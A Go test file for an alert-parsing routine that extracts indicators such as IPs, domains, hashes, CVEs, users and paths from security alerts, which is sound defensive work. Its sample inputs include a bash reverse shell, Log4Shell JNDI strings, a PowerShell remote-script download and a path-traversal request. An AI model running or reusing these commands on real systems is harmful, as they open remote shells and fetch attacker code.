package alert

import (
	"fmt"
	"slices"
	"strings"
	"testing"
)

// show writes observables as "type:value", in order.
func show(observables []Observable) []string {
	var s []string
	for _, o := range observables {
		s = append(s, string(o.Type)+":"+o.Value)
	}
	return s
}

// list reads "a b c", or "a|b|c" where values hold blanks.
func list(s string) []string {
	if strings.Contains(s, "|") {
		return strings.Split(s, "|")
	}
	return strings.Fields(s)
}

// DESK-09: observables are found in text, whatever surrounds them.
func TestObserveFindsInText(t *testing.T) {
	t.Parallel()
	tests := map[string]struct{ text, want string }{
		"addresses":            {"from 198.51.100.7:443 to 2001:db8::1, range 203.0.113.9/24.", "ip:198.51.100.7 ip:2001:db8::1 ip:203.0.113.0/24"},
		"bracketed IPv6":       {"peer [2001:db8::2]:80 and fe80::1%eth0", "ip:2001:db8::2 ip:fe80::1"},
		"mapped IPv4":          {"Failed password for root from ::ffff:203.0.113.9", "ip:203.0.113.9"},
		"a range":              {"198.51.100.1-198.51.100.20 and 10.0.0.1/255.255.255.0", "ip:198.51.100.1 ip:198.51.100.20 ip:10.0.0.1"},
		"any punctuation":      {`[10.0.0.1] (10.0.0.2) {10.0.0.3} <10.0.0.4> "10.0.0.5" 192.168.1.1's`, "ip:10.0.0.1 ip:10.0.0.2 ip:10.0.0.3 ip:10.0.0.4 ip:10.0.0.5 ip:192.168.1.1"},
		"a user's address":     {"root@198.51.100.3 and SIP/100@203.0.113.3", "ip:198.51.100.3 ip:203.0.113.3"},
		"defanged":             {"hxxps://evil[.]example/a and 198[.]51[.]100[.]7 and bob[@]example[.]com", "url:https://evil.example/a domain:evil.example ip:198.51.100.7 email:bob@example.com"},
		"URLs":                 {"Visited http://evil.example.com/a?b=c&d=e#f, then https://203.0.113.4:8443/x.", "url:http://evil.example.com/a?b=c&d=e#f domain:evil.example.com url:https://203.0.113.4:8443/x ip:203.0.113.4"},
		"a URL in brackets":    {"(at http://a.example/x_(b)) and <https://b.example/y>.", "url:http://a.example/x_(b) domain:a.example url:https://b.example/y domain:b.example"},
		"other schemes":        {"${jndi:ldap://203.0.113.66:1389/a} and ssh://git@10.9.8.8/repo", "ip:203.0.113.66 ip:10.9.8.8"},
		"domains":              {"evil.com evil.co.uk sub.evil.co.jp a.click c2.evil.app _dmarc.example.com EXAMPLE.ORG myhost.local", "domain:evil.com domain:evil.co.uk domain:sub.evil.co.jp domain:a.click domain:c2.evil.app domain:_dmarc.example.com domain:example.org domain:myhost.local"},
		"announced domains":    {"domain evil.zip resolved; DNS query for malware.sh", "domain:evil.zip domain:malware.sh"},
		"names beyond ASCII":   {"bücher.example and xn--bcher-kva.example", "domain:xn--bcher-kva.example"},
		"mail":                 {"Sender <ceo@examp1e.com> to bob@sub.example.co.uk", "email:ceo@examp1e.com email:bob@sub.example.co.uk"},
		"digests":              {"MD5: 44D88612FEA8A8F36DE82E1278ABB02F, file 3395856ce81f2b7382dee72602f798b642f14140", "hash:44d88612fea8a8f36de82e1278abb02f hash:3395856ce81f2b7382dee72602f798b642f14140"},
		"Sysmon's digests":     {"MD5=44D88612FEA8A8F36DE82E1278ABB02F,IMPHASH=F34D5F2D4577ED6D9CEEC516C1F5A744", "hash:44d88612fea8a8f36de82e1278abb02f"},
		"CVEs":                 {"exploits cve-2021-44228 and CVE_2022_1234 (CVE-2023-12345)", "cve:CVE-2021-44228 cve:CVE-2022-1234 cve:CVE-2023-12345"},
		"pairs":                {"Error (user=root command=touch /bin/hack file=/bin/hack)", "user:root file:/bin/hack"},
		"CEF":                  {`CEF:0|Vendor|Product|1.2.3.4|100|Scan|5|src=203.0.113.8 duser="Bob Jones" dhost=srv1`, "ip:203.0.113.8|user:Bob Jones|host:srv1"},
		"JSON in a string":     {`payload {\"src_ip\":\"198.51.100.77\",\"user\":\"carol\",\"version\":\"1.2.3.4\"}`, "ip:198.51.100.77 user:carol"},
		"labelled lines":       {"Rule fired\nHostname: WEB-01\n- User: CORP\\alice\nUser: somebody logged in", `host:WEB-01|user:alice`},
		"Windows paths":        {`ran C:\Program Files\Foo\bar.exe as CORP\alice, see \\fs01\share\x.txt`, `file:C:\Program Files\Foo\bar.exe|user:alice|file:\\fs01\share\x.txt`},
		"a quoted path":        {`in 'C:\Users\eve\Downloads\two words 14' now`, `file:C:\Users\eve\Downloads\two words 14|`},
		"escaped path":         {`"C:\\Users\\Public\\p.exe"`, `file:C:\Users\Public\p.exe`},
		"POSIX paths":          {"wrote /usr/local/bin/kdev, read /etc/shadow and /proc/1/environ > /dev/null", "file:/usr/local/bin/kdev file:/etc/shadow file:/proc/1/environ"},
		"an ARN":               {"role arn:aws:iam::123456789012:role/Admin was assumed", "resource:arn:aws:iam::123456789012:role/Admin account:123456789012"},
		"an IAM user":          {"(arn:aws:iam::123456789012:user/ops/eve)", "resource:arn:aws:iam::123456789012:user/ops/eve account:123456789012 user:eve"},
		"an Azure resource":    {"/subscriptions/7f2c1d34-1111-2222-3333-444455556666/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1 changed", "resource:/subscriptions/7f2c1d34-1111-2222-3333-444455556666/resourceGroups/rg/providers/Microsoft.Compute/virtualMachines/vm1 account:7f2c1d34-1111-2222-3333-444455556666"},
		"a Google resource":    {"//compute.googleapis.com/projects/my-project-1/zones/z/instances/vm changed", "resource://compute.googleapis.com/projects/my-project-1/zones/z/instances/vm account:my-project-1"},
		"a reverse shell":      {"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1", "ip:203.0.113.5"},
		"Japanese":             {"端末192.0.2.8がexample.jpに接続。C:\\Users\\太郎\\x.exeを実行、サーバーexample.co.jpへ", `ip:192.0.2.8|domain:example.jp|file:C:\Users\太郎\x.exe|domain:example.co.jp`},
		"an address of Java":   {"connection from /198.51.100.9:41234", "ip:198.51.100.9"},
		"a command with a URL": {"DownloadString('http://203.0.113.9/a.ps1')", "url:http://203.0.113.9/a.ps1 ip:203.0.113.9"},
	}
	for name, tt := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			want := slices.DeleteFunc(list(tt.want), func(s string) bool { return s == "" })
			if got := show(Observe(&Alert{Description: tt.text})); !slices.Equal(got, want) {
				t.Errorf("%s\n got %q\nwant %q", tt.text, got, want)
			}
		})
	}
}

// DESK-09: what only looks like an observable is none.
func TestObserveLeavesAlone(t *testing.T) {
	t.Parallel()
	tests := map[string]string{
		"versions":            "version 1.2.3.4, v1.2.3.4, foo-1.2.3.4, bar-1.2.3.4.jar, nginx:1.25.3.1, upgraded from 10.1.2.3 to 10.1.2.4, OpenSSL 1.1.1.7 or later, all versions before 9.8.7.6 and 8.7.6.5",
		"a User-Agent":        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/120.0.0.0 Safari/537.36 Edg/120.0.2210.91",
		"section numbers":     "CIS control 1.2.3.4 and OID 1.3.6.1 and 1.3.6.1.4.1.9",
		"no addresses":        "999.1.1.1 and 1.2.3 and 1.2.3.4.5 and 10.0.19045.3930",
		"file names":          "report.pdf cmd.exe main.py install.sh README.md index.js foo.zip lib.so run.rs id_rsa.pub setup.msi a.tar.gz go.mod",
		"class names":         "java.lang.String com.example.Foo org.apache.commons.io System.Net Microsoft.Win32.Registry io.kubernetes.pod.name",
		"fields and events":   "user.session.start github.actions user.name process.name container.id app.kubernetes.io/name event.action",
		"frameworks":          "Node.js ASP.NET Socket.IO Vue.js",
		"abbreviations":       "e.g. i.e. a.m. p.m. U.S. No.1 failed.In addition the user.To be sure.It is",
		"malware":             "Trojan.Win32.Agent.ml Backdoor:Win32/Foo.A!ml HEUR:Trojan.Script.Generic PUA.Win.Tool.Coinminer.io",
		"times and ids":       "at 10:20:30 on 2026-01-01T10:20:30.123Z id 7f2c1d34-1111-2222-3333-444455556666 mac 00:1a:2b:3c:4d:5e",
		"names with colons":   "std::vector DBI::db dead::beef abc::def 1::2 12:34:56:78:9a:bc:de:f0",
		"hex that is an id":   "session d41d8cd98f00b204e9800998ecf8427e, commit da39a3ee5e6b4b0d3255bfef95601890afd80709, container id e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
		"images":              "nginx@sha256:275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f and ghcr.io/org/app:v1 and github.com/org/module",
		"paths of servers":    "GET /api/v1/users HTTP/1.1, /wp-login.php, /index.php?page=../../../../etc/passwd, /24, and/or, s/a/b/g",
		"CVE-like":            "XCVE-2021-1111 CVE-2021-44228x cve-2022-1",
		"patterns of rights":  "arn:aws:iam::123456789012:role/* and arn:aws:s3:::",
		"a reference":         "For more information see https://docs.example.com/findings.",
		"system accounts":     `NT AUTHORITY\SYSTEM and System32\cmd.exe and HKLM\Software`,
		"all addresses":       "0.0.0.0/0 and ::/0",
		"git over ssh":        "git@github.com:org/repo.git",
		"half a mail address": "müller@example.de",
	}
	for name, text := range tests {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			if got := show(Observe(&Alert{Description: text})); len(got) > 0 {
				t.Errorf("%s\nnames %q", text, got)
			}
		})
	}
}

// DESK-09: the key of an attribute says what its value is.
func TestObserveReadsKeys(t *testing.T) {
	t.Parallel()
	tests := []struct{ key, value, want string }{
		{"src_ip", "203.0.113.5, 203.0.113.6:80", "ip:203.0.113.5 ip:203.0.113.6"},
		{"ips", `["203.0.113.5","2001:db8::9"]`, "ip:203.0.113.5 ip:2001:db8::9"},
		{"sourceIPAddress", "ec2.amazonaws.com", ""},
		{"ip", "1.2.3.0", "ip:1.2.3.0"},
		{"user", "N/A", ""},
		{"userName", `CORP\alice`, "user:alice"},
		{"user.name", "alice@example.com", "user:alice@example.com email:alice@example.com"},
		{"user.id", "1000", ""},
		{"userIdentity.arn", "arn:aws:iam::123456789012:user/alice", "resource:arn:aws:iam::123456789012:user/alice account:123456789012 user:alice"},
		{"hostname", "WEB-01.corp.example.com", "host:WEB-01.corp.example.com domain:web-01.corp.example.com"},
		{"host", "192.0.2.9", "ip:192.0.2.9"},
		{"http.request.headers.host", "evil.example:8080", "domain:evil.example"},
		{"dns.question.name", "evil.example", "domain:evil.example"},
		{"domain", "CORP", ""},
		{"process.name", "powershell.exe", "process:powershell.exe"},
		{"Image", `C:\Windows\System32\cmd.exe`, `process:cmd.exe file:C:\Windows\System32\cmd.exe`},
		{"image", "nginx:1.25", ""},
		{"container.image.repository", "docker.io/library/nginx", ""},
		{"TargetFilename", `C:\Users\a b\My File.docx`, `file:C:\Users\a b\My File.docx|`},
		{"fileName", "invoice.pdf.exe", "file:invoice.pdf.exe"},
		{"path", "/etc/passwd", "file:/etc/passwd"},
		{"path", "/login", ""},
		{"url.path", "/etc/passwd", ""},
		{"url", "evil.example/login", "domain:evil.example"},
		{"threat.url", "http://evil.example/1", "url:http://evil.example/1 domain:evil.example"},
		{"html_url", "https://git.example.com/org/repo/pull/1", ""},
		{"references.0.url", "https://nvd.nist.gov/vuln/detail/CVE-2021-44228", "cve:CVE-2021-44228"},
		{"md5", "44D88612FEA8A8F36DE82E1278ABB02F", "hash:44d88612fea8a8f36de82e1278abb02f"},
		{"sha256_after", "sha256:275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f", "hash:275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f"},
		{"id", "44d88612fea8a8f36de82e1278abb02f", ""},
		{"ja3.hash", "44d88612fea8a8f36de82e1278abb02f", ""},
		{"commit.sha", "3395856ce81f2b7382dee72602f798b642f14140", ""},
		{"account_id", "123456789012", "account:123456789012"},
		{"accountId", "12345", ""},
		{"subscriptionId", "7F2C1D34-1111-2222-3333-444455556666", "account:7f2c1d34-1111-2222-3333-444455556666"},
		{"tenantId", "7f2c1d34-1111-2222-3333-444455556666", ""},
		{"project_id", "my-project-123", "account:my-project-123"},
		{"project", "website", ""},
		{"os.version", "10.0.0.1", ""},
		{"user_agent", "x ${jndi:ldap://203.0.113.66/a} Chrome/118.0.5993.70", "ip:203.0.113.66"},
		{"eventSource", "iam.amazonaws.com", ""},
		{"sender", `"CEO" <ceo@examp1e.com>`, "email:ceo@examp1e.com"},
		{"to", "a@example.com, b@example.com", "email:a@example.com email:b@example.com"},
		{"cves", `["CVE-2021-44228","CVE-2021-45046"]`, "cve:CVE-2021-44228 cve:CVE-2021-45046"},
		{"instance", "web-1:9100", "host:web-1"},
		{"server", "nginx", ""},
		{"message_id", "<abc@mail.example.com>", ""},
		{"finding_arn", "arn:aws:guardduty:us-east-1:123456789012:detector/d/finding/f", ""},
	}
	for _, tt := range tests {
		t.Run(tt.key, func(t *testing.T) {
			t.Parallel()
			want := slices.DeleteFunc(list(tt.want), func(s string) bool { return s == "" })
			if got := show(Observe(&Alert{Attributes: []Attribute{{Key: tt.key, Value: tt.value}}})); !slices.Equal(got, want) {
				t.Errorf("%s = %s\n got %q\nwant %q", tt.key, tt.value, got, want)
			}
		})
	}
}

func TestObserveTakesThePolicysFirst(t *testing.T) {
	t.Parallel()
	got := Observe(&Alert{
		Title: "203.0.113.9 and 198.51.100.7",
		Observables: []Observable{
			{Type: IP, Value: "198.51.100[.]7:443", Role: "source"},
			{Type: IP, Value: "web-01", Role: "target"}, // a name where an address should be
			{Type: "hostname", Value: "192.0.2.4"},      // an address where a name should be, in another word for the type
			{Type: User, Value: `CORP\alice`},
			{Type: User, Value: "ALICE", Role: "actor"},
			{Type: Hash, Value: "no digest"},
			{Type: "nonsense", Value: "x"},
			{Type: User, Value: "-"},
		},
		Link: "https://console.example.com/1",
	})
	want := []Observable{
		{Type: IP, Value: "198.51.100.7", Role: "source", Scope: "documentation"},
		{Type: Host, Value: "web-01", Role: "target"},
		{Type: IP, Value: "192.0.2.4", Scope: "documentation"},
		{Type: User, Value: "alice", Role: "actor"},
		{Type: IP, Value: "203.0.113.9", Scope: "documentation"},
	}
	if !slices.Equal(got, want) {
		t.Errorf("got  %+v\nwant %+v", got, want)
	}
}

func TestObserveReadsRolesFromKeys(t *testing.T) {
	t.Parallel()
	got := Observe(&Alert{Attributes: []Attribute{{Key: "srcip", Value: "192.0.2.1"}, {Key: "destination.ip", Value: "192.0.2.2"}, {Key: "actor.user", Value: "eve"}}})
	for i, want := range []string{"source", "target", "actor"} {
		if got[i].Role != want {
			t.Errorf("%s has role %q, want %q", got[i].Value, got[i].Role, want)
		}
	}
}

func TestObserveIsBounded(t *testing.T) {
	t.Parallel()
	var b strings.Builder
	for i := range 5000 {
		fmt.Fprintf(&b, "10.%d.%d.7 ", i/250, i%250)
	}
	if n := len(Observe(&Alert{Description: b.String()})); n != MaxObservables {
		t.Errorf("%d observables, want %d", n, MaxObservables)
	}
	for _, hostile := range []string{"(", "[", "@", "a@", "http://", "http://)", `\\`, "C:\\a ", "user=", `user="`, "::", "1.", "sha256:", "%a%\\", "a.b.", `"a":"`, "hxxp[", "cve-", "/a", "x\n"} {
		a := &Alert{Title: hostile, Description: strings.Repeat(hostile, 1<<20/len(hostile))}
		for range 100 {
			a.Attributes = append(a.Attributes, Attribute{Key: "user", Value: strings.Repeat(hostile, 1024)})
		}
		Observe(a) // ends
	}
}
